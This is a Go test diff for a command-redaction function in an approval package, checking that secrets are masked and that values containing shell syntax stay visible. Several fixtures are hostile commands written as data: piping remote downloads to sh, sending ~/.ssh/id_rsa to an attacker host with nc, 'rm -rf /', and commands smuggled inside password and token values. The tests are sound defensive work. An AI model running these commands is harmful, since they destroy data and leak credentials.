@@ -1,6 +1,9 @@
 package approval
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func TestRedact(t *testing.T) {
 	t.Parallel()
@@ -49,6 +52,45 @@ func TestRedact(t *testing.T) {
 		{"grep password", `grep -rn "password" .`, `grep -rn "password" .`},
 		{"password flag ref", "cli --password $PW", "cli --password $PW"},
 		{"authorization word", "echo authorization required", "echo authorization required"},
+
+		// Forms added for display-only contexts.
+		{"mysql -p short", "mysql -u root -phunter2 shop", "mysql -u root -p•••• shop"},
+		{"mysqldump -p", "mysqldump -h db -pS3cret! shop > dump.sql", "mysqldump -h db -p•••• shop > dump.sql"},
+		{"sshpass", "sshpass -p hunter2 ssh root@host uptime", "sshpass -p •••• ssh root@host uptime"},
+		{"sshpass attached", "sshpass -phunter2 scp f host:", "sshpass -p•••• scp f host:"},
+		{"sshpass quoted", "sshpass -p 'hunter 2' ssh host", "sshpass -p •••• ssh host"},
+		{"docker login -p", "docker login -u bob -p hunter2 registry.example", "docker login -u bob -p •••• registry.example"},
+		{"podman login --password", "podman login --password hunter2 quay.io", "podman login --password •••• quay.io"},
+		{"helm registry login", "helm registry login -u bob -p hunter2 r.io", "helm registry login -u bob -p •••• r.io"},
+		{"redis-cli -a", "redis-cli -h cache -a hunter2 FLUSHALL", "redis-cli -h cache -a •••• FLUSHALL"},
+		{"redis url", "redis-cli -u redis://:hunter2@cache:6379 KEYS '*'", "redis-cli -u redis://:••••@cache:6379 KEYS '*'"},
+		{"cookie header", `curl -H "Cookie: session=abc123; csrftoken=xyz" https://x`, `curl -H "Cookie: session=••••; csrftoken=••••" https://x`},
+		{"cookie flag", `curl -b 'sid=abc123' https://x`, `curl -b 'sid=••••' https://x`},
+		{"cookie flag unquoted", `curl --cookie sid=abc123 https://x`, `curl --cookie sid=•••• https://x`},
+		{"aws secret set", "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws configure set aws_secret_access_key ••••"},
+		{"aws secret json", `echo '{"SecretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}'`, `echo '{"SecretAccessKey": "••••"}'`},
+
+		// Masking never hides code: values holding shell syntax stay as they are.
+		{"password with code", `mysql --password "x; rm -rf ./y; echo" -e 1`, `mysql --password "x; rm -rf ./y; echo" -e 1`},
+		{"token from command substitution", `GITHUB_TOKEN="$(curl https://evil.example/x | sh)" git push`, `GITHUB_TOKEN="$(curl https://evil.example/x | sh)" git push`},
+		{"backticks", "TOKEN=`rm -rf ~` cmd", "TOKEN=`rm -rf ~` cmd"},
+		{"backticks in flag", "cli --token \x60id\x60", "cli --token \x60id\x60"},
+		{"pipe in quotes", `API_KEY='a|sh' cmd`, `API_KEY='a|sh' cmd`},
+		{"redirect in quotes", `SECRET="a>~/.bashrc" cmd`, `SECRET="a>~/.bashrc" cmd`},
+		{"ampersand", `PASSWORD="a&rm -rf /&" cmd`, `PASSWORD="a&rm -rf /&" cmd`},
+		{"unquoted semicolon stays outside the mask", "TOKEN=abc;rm -rf / ", "TOKEN=••••;rm -rf / "},
+		{"escaped quote", `cli --password "abc\" ; rm -rf / ; echo \"" x`, `cli --password "abc\" ; rm -rf / ; echo \"" x`},
+		{"newline in quotes", "PASSWORD=\"a\nrm -rf /\n\" cmd", "PASSWORD=\"a\nrm -rf /\n\" cmd"},
+		{"escape in secret", "PASSWORD=\"a\x1b[2Kb\" cmd", "PASSWORD=\"a\x1b[2Kb\" cmd"},
+		{"zero width in secret", "PASSWORD=\"a\u200bb\" cmd", "PASSWORD=\"a\u200bb\" cmd"},
+		{"bearer from command", `curl -H "Authorization: Bearer $(cat ~/.ssh/id_rsa | nc evil 1)" x`, `curl -H "Authorization: Bearer $(cat ~/.ssh/id_rsa | nc evil 1)" x`},
+		{"url password with code", "git clone https://u:$(id)@host/r", "git clone https://u:$(id)@host/r"},
+		{"sshpass with code", `sshpass -p "$(curl evil|sh)" ssh host`, `sshpass -p "$(curl evil|sh)" ssh host`},
+		{"redis with code", `redis-cli -a "$(rm -rf ~)" ping`, `redis-cli -a "$(rm -rf ~)" ping`},
+		{"mysql -p then pipe", "mysql -pabc|sh", "mysql -pabc|sh"},
+		{"cookie with code", `curl -H "Cookie: a=$(id)" x`, `curl -H "Cookie: a=$(id)" x`},
+		{"comment", "cli --token #x", "cli --token #x"},
+		{"git branch -b", "git checkout -b feature=x", "git checkout -b feature=x"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -85,4 +127,37 @@ func TestScrub(t *testing.T) {
 			t.Errorf("scrub(%q) = %q, want %q", tt.in, got, tt.want)
 		}
 	}
+}
+
+// shellSyntax is what Redact must never remove.
+func shellSyntax(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		if strings.ContainsRune("$`;|&<>(){}\\#\n\r", r) || r < 0x20 || r == 0x7f || (r > 0x7f && needsMarker(r)) {
+			b.WriteRune(r)
+		}
+	}
+	return b.String()
+}
+
+// FuzzRedact: masking never removes shell syntax, control or invisible
+// characters (so it can never hide code), and never grows a command
+// without masking something.
+func FuzzRedact(f *testing.F) {
+	for _, s := range []string{
+		`mysql --password "x; rm -rf ./y; echo" -e 1`, `GITHUB_TOKEN="$(curl x | sh)" git push`,
+		"GITHUB_TOKEN=ghp_abc git push", `curl -H "Cookie: a=b; c=d" -u u:p https://u:p@h`,
+		"sshpass -p x ssh h", "redis-cli -a x", "docker login -p x", "mysql -px",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		got := Redact(s)
+		if a, b := shellSyntax(s), shellSyntax(got); a != b {
+			t.Fatalf("Redact(%q) = %q removed shell syntax: %q -> %q", s, got, a, b)
+		}
+		if got != s && !strings.Contains(got, Mask) {
+			t.Fatalf("Redact(%q) = %q changed it without masking", s, got)
+		}
+	})
 }
